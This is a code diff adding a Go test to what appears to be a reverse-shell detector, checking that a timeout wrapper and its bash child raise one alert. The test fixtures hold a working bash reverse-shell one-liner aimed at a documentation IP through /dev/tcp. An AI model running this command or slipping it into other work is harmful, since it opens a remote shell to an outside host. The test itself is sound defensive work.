@@ -447,3 +447,21 @@ func TestTwinConfigurationRecommendations(t *testing.T) {
 		t.Errorf("TypeMismatch changed the recommendations: %+v", r)
 	}
 }
+
+// TestWrapperAndChildAlertOnce: timeout (or sh -c) carries its child's
+// command line; the child raising the same rule is folded.
+func TestWrapperAndChildAlertOnce(t *testing.T) {
+	h := newHarness(t, Options{})
+	wrap := proc("/usr/bin/timeout", "timeout 2 bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
+	wp := wrap.Payload[0].(*event.ProcessCreatePayload)
+	child := proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
+	child.Payload[0].(*event.ProcessCreatePayload).ParentProcessID = wp.ProcessID
+	other := proc("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/9 0>&1")
+	if a := alertsOf(h.feed(wrap, child), RuleReverseShell); len(a) != 1 || a[0].Executable != "/usr/bin/timeout" {
+		t.Fatalf("wrapper and child: %+v", a)
+	}
+	// The same command from an unrelated parent is another alert.
+	if a := alertsOf(h.feed(other), RuleReverseShell); len(a) != 1 {
+		t.Fatalf("unrelated process: %+v", a)
+	}
+}
